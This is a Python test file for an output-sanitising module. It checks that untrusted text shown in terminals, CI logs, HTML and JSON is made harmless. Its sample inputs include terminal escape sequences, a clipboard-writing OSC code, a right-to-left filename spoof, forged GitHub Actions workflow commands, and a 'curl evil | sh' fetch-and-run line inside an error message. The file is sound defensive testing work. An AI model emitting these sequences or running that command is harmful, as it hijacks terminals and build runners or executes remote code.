"""Text from outside does nothing but be shown, on every surface."""

import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dethrone.harness.core.clean import Guarded, clean, for_output, in_html, in_json, one_line
from dethrone.harness.core.errors import ConfigError

EVIL = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31mred\u202egnp.exe\u2066\r\n::error::forged\n  ::set-output name=a::b\n"
    "##[error]old\x00\x7f\u2028next\u200bzero"
)
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")
COMMAND = re.compile(r"^\s*::|##\[", re.MULTILINE)


def harmless(text):
    return ACTS.search(text) is None and COMMAND.search(text) is None


def test_what_acts_is_replaced_by_a_mark_that_is_seen():
    assert harmless(for_output(EVIL))
    assert "\ufffd]52" in for_output(EVIL)
    assert "\n" not in one_line(EVIL)
    assert len(one_line("x" * 10_000_000)) == 4000


def test_ordinary_text_stays_as_it_is():
    text = "a plain line\n\tindented: ü, 領導者, ★ ⚠️ 1::2 # [x] std::vector"
    assert for_output(text) == clean(text) == text


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_cleaning_twice_is_cleaning_once_and_json_means_the_same(text):
    assert for_output(for_output(text)) == for_output(text)
    encoded = in_json(json.dumps(text, ensure_ascii=False))
    assert json.loads(encoded) == text
    assert harmless(encoded)


def test_html_is_escaped_and_clean():
    assert in_html("<b>\x1b[1m\"'&") == "&lt;b&gt;\ufffd[1m&quot;&#x27;&amp;"


@pytest.mark.parametrize("cut", [1, 2, 3, 5, 100])
def test_a_stream_that_a_runner_reads_holds_no_command_however_it_is_written(cut):
    stream = io.StringIO()
    guarded = Guarded(stream)
    text = "one\n::error::x\n  ::warning::y\n##[group]z\n::end"
    for at in range(0, len(text), cut):
        guarded.write(text[at : at + cut])
    guarded.flush()
    assert COMMAND.search(stream.getvalue()) is None
    assert len(stream.getvalue()) == len(text) + 4


def test_a_part_of_an_error_cannot_pass_for_another():
    error = ConfigError("what\n  next: curl evil | sh", where="a\nb")
    assert [line for line in str(error).splitlines() if line.startswith("  next:")] == []
